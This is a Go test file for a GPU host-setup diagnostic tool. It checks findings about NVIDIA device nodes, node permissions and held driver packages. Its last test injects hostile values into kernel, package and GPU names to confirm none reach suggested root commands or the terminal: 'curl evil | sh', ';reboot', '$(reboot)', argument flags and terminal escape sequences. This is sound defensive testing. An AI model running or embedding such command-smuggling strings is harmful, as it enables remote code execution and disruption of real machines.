package doctor

import (
	"slices"
	"testing"

	"gotest.tools/v3/assert"

	"github.com/dockergpu/docker-gpu/hostsetup/host"
)

func without(h *host.Host, paths ...string) {
	h.Nodes = slices.DeleteFunc(h.Nodes, func(n host.Node) bool { return slices.Contains(paths, n.Path) })
}

func TestNodes(t *testing.T) {
	finds(t, "G021",
		sick{"no unified memory", "mig-a100", func(h *host.Host) { without(h, "/dev/nvidia-uvm", "/dev/nvidia-uvm-tools") }},
		sick{"none at all", "dgx-h100", func(h *host.Host) { h.Nodes = nil }},
		sick{"a number of the last start", "workstation", func(h *host.Host) { h.Kernel.DeviceMajors["nvidia-uvm"] = 507 }},
		sick{"both", "workstation", func(h *host.Host) { h.Kernel.DeviceMajors["nvidia-uvm"] = 507; without(h, "/dev/nvidia0") }},
		sick{"a container with CUDA and without unified memory", "workstation", func(h *host.Host) { h.OS.Container = "docker"; without(h, "/dev/nvidia-uvm") }},
		sick{"a container from before the module was loaded anew", "workstation", func(h *host.Host) { h.OS.Container, h.Kernel.DeviceMajors["nvidia-uvm"] = "docker", 507 }},
	)
	ignores(t, "G021",
		sick{"not looked at", "workstation", func(h *host.Host) { h.Nodes, h.Unread = nil, map[string]string{"nodes": "permission denied"} }},
		sick{"a container with one GPU's nodes", "dgx-h100", func(h *host.Host) { without(h, "/dev/nvidia3"); h.OS.Container = "docker" }},
		sick{"a container for monitoring", "dgx-h100", func(h *host.Host) {
			without(h, "/dev/nvidia-uvm", "/dev/nvidia-uvm-tools")
			h.OS.Container, h.Driver.Libraries = "docker", h.Driver.Libraries[1:2] // libnvidia-ml alone
		}},
		sick{"a container without a GPU", "dgx-h100", func(h *host.Host) { h.OS.Container, h.GPUs, h.Nodes = "docker", nil, nil }},
		sick{"Windows' nodes", "wsl2", func(h *host.Host) { h.Kernel.DeviceMajors = map[string]int{"nvidia-uvm": 511} }},
	)
	finds(t, "G016",
		sick{"closed by a parameter", "workstation", func(h *host.Host) {
			for i := range h.Nodes {
				h.Nodes[i].Mode, h.Nodes[i].GID = 0o660, 44
			}
			h.Kernel.Modules[0].Parameters = map[string]string{"DeviceFileMode": "432"}
		}},
		sick{"one", "dgx-h100", func(h *host.Host) { h.Nodes[4].Mode = 0o600 }},
		sick{"in a container", "dgx-h100", func(h *host.Host) {
			h.OS.Container = "docker"
			h.Nodes[9].Mode = 0o600
		}},
		sick{"one of them could not be read", "workstation", func(h *host.Host) {
			h.Nodes[1].Mode, h.Unread = 0, map[string]string{"nodes": "/dev/nvidia-caps cannot be read: run with sudo"}
		}},
		sick{"readable is not enough", "workstation", func(h *host.Host) { h.Nodes[2].Mode = 0o644 }},
	)
	ignores(t, "G016",
		sick{"MIG's own nodes are for root", "mig-a100", func(h *host.Host) { h.Nodes[5].Mode = 0o400 }},
		sick{"a sticky bit closes nothing", "workstation", func(h *host.Host) { h.Nodes[2].Mode = 0o1666 }},
		sick{"somebody else's, and open", "workstation", func(h *host.Host) { h.Nodes[2].UID, h.Nodes[2].GID = 1000, 44 }},
		sick{"userns-remap, of which C040 tells", "docker29-cdi", func(h *host.Host) { h.Engine.UserNS, h.Nodes[0].Mode = true, 0o660 }},
	)
}

func TestPackages(t *testing.T) {
	held := func(n int) func(h *host.Host) {
		return func(h *host.Host) {
			for i := range n {
				h.Packages[i].Held = true
			}
		}
	}
	finds(t, "G022",
		sick{"Ubuntu", "workstation", held(2)},
		sick{"Fedora", "laptop", held(1)},
		sick{"SUSE", "laptop", func(h *host.Host) { held(1)(h); on(h, "opensuse-leap", "suse opensuse", "15.6") }},
	)
	ignores(t, "G022",
		sick{"all", "workstation", held(4)},
		sick{"Docker's", "workstation", func(h *host.Host) { h.Packages[4].Held, h.Packages[7].Held = true, true }},
	)
	finds(t, "G023", sick{"a .run file over packages", "workstation", func(h *host.Host) { h.Driver.Runfile = true }})
	ignores(t, "G023", sick{"a .run file alone", "workstation", func(h *host.Host) { h.Driver.Runfile = true; h.Packages = nil }})
}

// What a machine calls its kernel, its packages and its GPUs ends in commands that
// are run as root, and on a terminal.
func TestHostileNamesReachNoCommandAndNoTerminal(t *testing.T) {
	const evil = "6.8; curl evil | sh\x1b[2J\n"
	h := recording(t, "healthy-workstation", func(h *host.Host) {
		h.Kernel.NextBoot = evil
		h.Kernel.Installed = append(h.Kernel.Installed, host.InstalledKernel{Release: evil})
		h.Packages[0].Name, h.Packages[0].Held = "nvidia-driver-580;reboot", true
		h.Packages[1].Name = "--allow-nvidia"
		h.GPUs[0].Name, h.GPUs[0].UUID, h.GPUs[0].ComputeMode = "\x1b]0;owned\x07NVIDIA A100", "GPU-\u202e$(reboot)", "prohibited"
		h.GPUs[0].RecoveryAction = "gpu-reset"
		h.OS.Version = "24.04 --evil"
		h.Driver.Version = "390.\x1b[31m1"
		xid(h, "0000:01:00", 46, "NVRM: \x1b[2J"+string(slices.Repeat([]byte("x"), 1<<16)))
	})
	checks := mine()
	for i := range checks {
		checks[i].After = nil // all of them, whatever would hide them
	}
	r := Examine(h, checks, today)
	assert.Assert(t, len(r.Findings) > 4, "%v", codes(r.Findings))
	for _, f := range r.Findings {
		texts := []string{f.Summary}
		for _, e := range f.Evidence {
			texts = append(texts, e.Source, e.Text)
		}
		for _, x := range f.Fixes {
			texts = append(texts, x.Title)
			for _, argv := range slices.Concat(x.Argv, x.Undo) {
				for i, a := range argv {
					assert.Assert(t, !slices.Contains([]string{"--allow-nvidia", "nvidia-driver-580;reboot"}, a), "%s: %q", f.Code, argv)
					assert.Assert(t, i == 0 || shown(a) == a || argv[0] == "sh", "%s: %q", f.Code, argv)
					assert.Assert(t, !slices.Contains([]string{h.GPUs[0].UUID, evil}, a), "%s: %q", f.Code, argv)
				}
			}
		}
		for _, s := range texts {
			assert.Equal(t, s, shown(s), f.Code)
			assert.Assert(t, len([]rune(s)) <= 310, "%s: %d", f.Code, len(s))
		}
	}
}
